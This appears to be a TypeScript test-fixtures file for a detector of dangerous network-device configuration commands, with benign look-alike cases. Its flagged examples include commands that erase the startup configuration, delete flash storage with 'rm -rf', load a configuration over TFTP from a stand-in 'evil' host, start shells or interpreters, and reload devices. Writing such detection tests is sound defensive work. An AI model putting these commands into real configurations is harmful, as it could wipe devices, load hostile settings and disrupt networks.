import type { Fixtures } from '../testing.ts';

export const fixtures: Fixtures = {
  fires: {
    'the configuration erases itself': `
//- r1.cfg ios
hostname r1
do write erase
^^^^^^^^^^^^^^ [P0] erases the startup configuration
do wr er
^^^^^^^^ erases the startup configuration
reload in 5
^^^^^^^^^^^ restarts the device
//- r1.cfg fixed
hostname r1
`,
    'an interpreter and a fetched file': `
//- r1.cfg ios
hostname r1
interface GigabitEthernet0/1
 description x
 do tclsh
 ^^^^^^^^ interpreter
copy tftp://198.51.100.9/evil running-config
^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ loads a file from elsewhere
`,
    'an applet that runs commands by itself': `
//- r1.cfg ios
hostname r1
event manager applet X
^^^^^^^^^^^^^^^^^^^^^^ run commands by itself
 event timer watchdog time 60
`,
    'a shell on EOS': `
//- r1.cfg eos
hostname r1
bash timeout 5 rm -rf /mnt/flash
^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ starts a shell
`,
    'a router that restarts itself': `
//- r1.cfg frr
hostname r1
reload
^^^^^^ restarts the device
`,
  },
  silent: {
    'settings that only sound like it': `
//- r1.cfg eos
hostname r1
no event manager applet X
event-handler save
   trigger on-startup-config
   action bash echo saved
mlag configuration
   reload-delay mlag 300
alias wr copy running-config startup-config
`,
    'a banner that quotes a command': `\n//- r1.cfg ios\nhostname r1\nbanner motd ^C\nreload\n^C\n`,
  },
};
